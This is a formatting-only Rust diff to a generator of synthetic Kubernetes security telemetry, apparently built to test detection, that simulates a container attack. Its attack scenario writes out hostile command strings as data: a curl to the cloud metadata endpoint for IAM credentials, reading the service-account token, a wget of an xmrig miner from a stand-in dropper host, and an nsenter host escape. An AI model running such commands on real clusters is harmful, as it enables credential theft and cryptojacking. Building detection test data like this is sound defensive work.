@@ -71,7 +71,14 @@ impl Scenario {
     ];
 }
 
-fn call(time: Micros, user: &str, groups: &[&str], ip: &str, agent: &str, rng: &mut Rng) -> ApiCall {
+fn call(
+    time: Micros,
+    user: &str,
+    groups: &[&str],
+    ip: &str,
+    agent: &str,
+    rng: &mut Rng,
+) -> ApiCall {
     ApiCall {
         time,
         audit_id: rng.uuid(),
@@ -118,7 +125,15 @@ fn world(ip: &str) -> Endpoint {
     }
 }
 
-fn flow(time: Micros, src: Endpoint, dst: Endpoint, dst_port: i64, bytes: i64, node: usize, rng: &mut Rng) -> Flow {
+fn flow(
+    time: Micros,
+    src: Endpoint,
+    dst: Endpoint,
+    dst_port: i64,
+    bytes: i64,
+    node: usize,
+    rng: &mut Rng,
+) -> Flow {
     Flow {
         time,
         duration_secs: 1 + rng.below(20) as i64,
@@ -136,7 +151,14 @@ fn flow(time: Micros, src: Endpoint, dst: Endpoint, dst_port: i64, bytes: i64, n
     }
 }
 
-fn exec(time: Micros, pod: usize, binary: &str, arguments: &str, pid: i64, parent: (&str, &str, i64)) -> ProcessEvent {
+fn exec(
+    time: Micros,
+    pod: usize,
+    binary: &str,
+    arguments: &str,
+    pid: i64,
+    parent: (&str, &str, i64),
+) -> ProcessEvent {
     ProcessEvent {
         time,
         pod,
@@ -159,13 +181,27 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         for node in NODES.iter() {
             let user = format!("system:node:{}", node.name);
             let agent = "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
-            let mut c = call(t + rng.below(50 * SECOND as u64) as i64, &user, &node_groups, node.ip, agent, rng);
+            let mut c = call(
+                t + rng.below(50 * SECOND as u64) as i64,
+                &user,
+                &node_groups,
+                node.ip,
+                agent,
+                rng,
+            );
             c.verb = "patch";
             c.resource = "nodes";
             c.subresource = Some("status");
             c.name = Some(node.name.to_owned());
             s.api_calls.push(c);
-            let mut c = call(t + rng.below(50 * SECOND as u64) as i64, &user, &node_groups, node.ip, agent, rng);
+            let mut c = call(
+                t + rng.below(50 * SECOND as u64) as i64,
+                &user,
+                &node_groups,
+                node.ip,
+                agent,
+                rng,
+            );
             c.verb = "list";
             c.resource = "pods";
             s.api_calls.push(c);
@@ -181,7 +217,8 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
             }
         }
         // Controllers: leases and endpoints, from the control plane.
-        let mut c = call(t + 7 * SECOND,
+        let mut c = call(
+            t + 7 * SECOND,
             "system:kube-controller-manager",
             &["system:authenticated"],
             "10.0.0.10",
@@ -197,7 +234,14 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         // People and CI.
         if minute % 3 == 0 {
             let human: &Human = rng.pick(&HUMANS);
-            let mut c = call(t + 20 * SECOND + rng.below(30 * SECOND as u64) as i64, human.user, human.groups, human.ip, human.agent, rng);
+            let mut c = call(
+                t + 20 * SECOND + rng.below(30 * SECOND as u64) as i64,
+                human.user,
+                human.groups,
+                human.ip,
+                human.agent,
+                rng,
+            );
             let pod = &PODS[rng.below(3) as usize];
             c.namespace = Some(pod.namespace.to_owned());
             match rng.below(3) {
@@ -212,7 +256,9 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
                     c.api_group = "apps";
                     c.name = Some(pod.app.to_owned());
                     c.level = "Request";
-                    c.request_object = Some(json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": crate::render::rfc3339(t)}}}}}));
+                    c.request_object = Some(
+                        json!({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": crate::render::rfc3339(t)}}}}}),
+                    );
                 }
             }
             s.api_calls.push(c);
@@ -220,12 +266,36 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         // East-west traffic, DNS, scrapes, and a partner API.
         for half in 0..2 {
             let tt = t + half * 30 * SECOND + rng.below(10 * SECOND as u64) as i64;
-            let f = flow(tt, pod_endpoint(0), pod_endpoint(1), 8080, 4_000 + rng.below(20_000) as i64, 0, rng);
+            let f = flow(
+                tt,
+                pod_endpoint(0),
+                pod_endpoint(1),
+                8080,
+                4_000 + rng.below(20_000) as i64,
+                0,
+                rng,
+            );
             s.flows.push(f);
-            let f = flow(tt + 200_000, pod_endpoint(1), pod_endpoint(2), 5432, 2_000 + rng.below(9_000) as i64, 0, rng);
+            let f = flow(
+                tt + 200_000,
+                pod_endpoint(1),
+                pod_endpoint(2),
+                5432,
+                2_000 + rng.below(9_000) as i64,
+                0,
+                rng,
+            );
             s.flows.push(f);
         }
-        let mut dns = flow(t + 3 * SECOND, pod_endpoint(3), pod_endpoint(4), 53, 120, 1, rng);
+        let mut dns = flow(
+            t + 3 * SECOND,
+            pod_endpoint(3),
+            pod_endpoint(4),
+            53,
+            120,
+            1,
+            rng,
+        );
         dns.protocol = "UDP";
         dns.dns_query = Some("api.partner-bank.example.".to_owned());
         s.flows.push(dns);
@@ -233,17 +303,39 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         let bytes = 9_000 + rng.below(40_000) as i64;
         let f = flow(t + 4 * SECOND, pod_endpoint(3), partner, 443, bytes, 1, rng);
         s.flows.push(f);
-        let f = flow(t + 15 * SECOND, pod_endpoint(5), pod_endpoint(rng.below(4) as usize), 9090, 15_000, 2, rng);
+        let f = flow(
+            t + 15 * SECOND,
+            pod_endpoint(5),
+            pod_endpoint(rng.below(4) as usize),
+            9090,
+            15_000,
+            2,
+            rng,
+        );
         s.flows.push(f);
         if minute % 5 == 0 {
             let pid = 30_000 + minute * 7;
-            let p = exec(t + 40 * SECOND, 2, "/usr/bin/pg_isready", "-U postgres", pid, ("/bin/sh", "-c pg_isready -U postgres", pid - 1));
+            let p = exec(
+                t + 40 * SECOND,
+                2,
+                "/usr/bin/pg_isready",
+                "-U postgres",
+                pid,
+                ("/bin/sh", "-c pg_isready -U postgres", pid - 1),
+            );
             let mut exit = p.clone();
             exit.time += 80_000;
             exit.kind = ProcessKind::Exit { status: 0 };
             s.processes.push(p);
             s.processes.push(exit);
-            let p = exec(t + 42 * SECOND, 1, "/usr/local/bin/python", "manage.py clearsessions", pid + 3, ("/usr/local/bin/gunicorn", "api.wsgi -b 0.0.0.0:8080", 1));
+            let p = exec(
+                t + 42 * SECOND,
+                1,
+                "/usr/local/bin/python",
+                "manage.py clearsessions",
+                pid + 3,
+                ("/usr/local/bin/gunicorn", "api.wsgi -b 0.0.0.0:8080", 1),
+            );
             s.processes.push(p);
         }
         if minute % 15 == 5 {
@@ -266,8 +358,15 @@ fn background(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
 
 fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
     let victim = &PODS[VICTIM_POD];
-    let sa = format!("system:serviceaccount:{}:{}", victim.namespace, victim.service_account);
-    let sa_groups = ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"];
+    let sa = format!(
+        "system:serviceaccount:{}:{}",
+        victim.namespace, victim.service_account
+    );
+    let sa_groups = [
+        "system:serviceaccounts",
+        "system:serviceaccounts:shop",
+        "system:authenticated",
+    ];
     let curl = "curl/8.4.0";
     let kubectl = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b";
     let ip = cluster::ATTACKER_IP;
@@ -318,48 +417,119 @@ fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
 
     // 3. Shell, metadata credentials, token file.
     let step = Some("3-metadata-credential-theft");
-    let runc = ("/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", 41_000);
+    let runc = (
+        "/usr/bin/runc",
+        "--root /run/containerd/runc/k8s.io exec",
+        41_000,
+    );
     let mut p = exec(at(31, 3), VICTIM_POD, "/bin/sh", "", 41_001, runc);
     p.attack_step = Some("2-exec-into-pod");
     s.processes.push(p);
     let shell = ("/bin/sh", "", 41_001);
-    let mut p = exec(at(31, 20), VICTIM_POD, "/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role", 41_010, shell);
+    let mut p = exec(
+        at(31, 20),
+        VICTIM_POD,
+        "/usr/bin/curl",
+        "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role",
+        41_010,
+        shell,
+    );
     p.attack_step = step;
     s.processes.push(p.clone());
     p.time += 20_000;
-    p.kind = ProcessKind::Connect { dst_ip: cluster::METADATA_IP.into(), dst_port: 80 };
+    p.kind = ProcessKind::Connect {
+        dst_ip: cluster::METADATA_IP.into(),
+        dst_port: 80,
+    };
     s.processes.push(p);
-    let mut f = flow(at(31, 20) + 30_000, pod_endpoint(VICTIM_POD), world(cluster::METADATA_IP), 80, 1_840, victim.node, rng);
+    let mut f = flow(
+        at(31, 20) + 30_000,
+        pod_endpoint(VICTIM_POD),
+        world(cluster::METADATA_IP),
+        80,
+        1_840,
+        victim.node,
+        rng,
+    );
     f.attack_step = step;
     s.flows.push(f);
-    let mut p = exec(at(31, 40), VICTIM_POD, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 41_020, shell);
+    let mut p = exec(
+        at(31, 40),
+        VICTIM_POD,
+        "/bin/cat",
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        41_020,
+        shell,
+    );
     p.attack_step = step;
     s.processes.push(p.clone());
     p.time += 5_000;
-    p.kind = ProcessKind::FileRead { path: "/var/run/secrets/kubernetes.io/serviceaccount/token".into() };
+    p.kind = ProcessKind::FileRead {
+        path: "/var/run/secrets/kubernetes.io/serviceaccount/token".into(),
+    };
     s.processes.push(p);
 
     // 4. Miner: download, chmod, run, connect to the pool.
     let step = Some("4-cryptominer");
-    let mut p = exec(at(33, 1), VICTIM_POD, "/usr/bin/wget", &format!("-q http://{}/xmrig -O /tmp/xmrig", cluster::DROPPER_IP), 41_030, shell);
+    let mut p = exec(
+        at(33, 1),
+        VICTIM_POD,
+        "/usr/bin/wget",
+        &format!("-q http://{}/xmrig -O /tmp/xmrig", cluster::DROPPER_IP),
+        41_030,
+        shell,
+    );
     p.attack_step = step;
     s.processes.push(p);
-    let mut f = flow(at(33, 1) + 40_000, pod_endpoint(VICTIM_POD), world(cluster::DROPPER_IP), 80, 2_841_112, victim.node, rng);
+    let mut f = flow(
+        at(33, 1) + 40_000,
+        pod_endpoint(VICTIM_POD),
+        world(cluster::DROPPER_IP),
+        80,
+        2_841_112,
+        victim.node,
+        rng,
+    );
     f.attack_step = step;
     s.flows.push(f);
-    let mut p = exec(at(33, 9), VICTIM_POD, "/bin/chmod", "+x /tmp/xmrig", 41_031, shell);
+    let mut p = exec(
+        at(33, 9),
+        VICTIM_POD,
+        "/bin/chmod",
+        "+x /tmp/xmrig",
+        41_031,
+        shell,
+    );
     p.attack_step = step;
     s.processes.push(p);
     let miner_args = "-o stratum+tcp://pool.minexmr.example:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx --donate-level 1";
-    let mut p = exec(at(33, 12), VICTIM_POD, "/tmp/xmrig", miner_args, 41_032, shell);
+    let mut p = exec(
+        at(33, 12),
+        VICTIM_POD,
+        "/tmp/xmrig",
+        miner_args,
+        41_032,
+        shell,
+    );
     p.attack_step = step;
     s.processes.push(p.clone());
     p.time += 300_000;
-    p.kind = ProcessKind::Connect { dst_ip: cluster::POOL_IP.into(), dst_port: cluster::POOL_PORT };
+    p.kind = ProcessKind::Connect {
+        dst_ip: cluster::POOL_IP.into(),
+        dst_port: cluster::POOL_PORT,
+    };
     s.processes.push(p);
     for i in 0..5 {
         let bytes = 180_000 + rng.below(40_000) as i64;
-        let mut f = flow(at(33, 13) + i * MINUTE, pod_endpoint(VICTIM_POD), world(cluster::POOL_IP), cluster::POOL_PORT, bytes, victim.node, rng);
+        let mut f = flow(
+            at(33, 13) + i * MINUTE,
+            pod_endpoint(VICTIM_POD),
+            world(cluster::POOL_IP),
+            cluster::POOL_PORT,
+            bytes,
+            victim.node,
+            rng,
+        );
         f.duration_secs = 60;
         f.attack_step = step;
         s.flows.push(f);
@@ -372,8 +542,17 @@ fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         cmdline: format!("xmrig {miner_args}"),
         process: "xmrig".into(),
         parent: "sh".into(),
-        tags: vec!["container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
-        extra_fields: vec![("proc.exepath", json!("/tmp/xmrig")), ("evt.arg.flags", json!("EXE_WRITABLE|EXE_UPPER_LAYER"))],
+        tags: vec![
+            "container",
+            "process",
+            "mitre_persistence",
+            "TA0003",
+            "PCI_DSS_11.5.1",
+        ],
+        extra_fields: vec![
+            ("proc.exepath", json!("/tmp/xmrig")),
+            ("evt.arg.flags", json!("EXE_WRITABLE|EXE_UPPER_LAYER")),
+        ],
         message: "Executing binary not part of base image (proc_exe=/tmp/xmrig user=root)".into(),
         attack_step: step,
     });
@@ -393,7 +572,11 @@ fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
             ("fd.cport", json!(51_234)),
             ("fd.l4proto", json!("tcp")),
         ],
-        message: format!("Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={} port={})", cluster::POOL_IP, cluster::POOL_PORT),
+        message: format!(
+            "Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={} port={})",
+            cluster::POOL_IP,
+            cluster::POOL_PORT
+        ),
         attack_step: step,
     });
 
@@ -451,7 +634,14 @@ fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
     // The new pod is not in the cluster model's pod list: its runtime events are the
     // victim node's host-namespace processes, which Tetragon attributes to the pod it ran
     // from last; the samples keep them on the victim pod for simplicity of joins.
-    let mut p = exec(at(38, 45), VICTIM_POD, "/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash", 41_050, ("/bin/sh", "", 41_049));
+    let mut p = exec(
+        at(38, 45),
+        VICTIM_POD,
+        "/usr/bin/nsenter",
+        "-t 1 -m -u -n -i -p bash",
+        41_050,
+        ("/bin/sh", "", 41_049),
+    );
     p.attack_step = step;
     s.processes.push(p);
     s.alerts.push(FalcoAlert {
@@ -464,7 +654,9 @@ fn attack(s: &mut Scenario, rng: &mut Rng, t0: Micros) {
         parent: "sh".into(),
         tags: vec!["container", "cis", "mitre_privilege_escalation", "T1610"],
         extra_fields: vec![("container.privileged", json!(true))],
-        message: "Privileged container started (user=root command=nsenter -t 1 -m -u -n -i -p bash)".into(),
+        message:
+            "Privileged container started (user=root command=nsenter -t 1 -m -u -n -i -p bash)"
+                .into(),
         attack_step: step,
     });
 
@@ -492,7 +684,10 @@ mod tests {
                 || a.processes.iter().any(|p| p.attack_step == Some(step));
             assert!(seen, "step {step} missing");
         }
-        assert!(a.flows.iter().any(|f| f.attack_step == Some("4-cryptominer")));
+        assert!(a
+            .flows
+            .iter()
+            .any(|f| f.attack_step == Some("4-cryptominer")));
         assert!(a.api_calls.len() > 300 && a.flows.len() > 200);
     }
 }
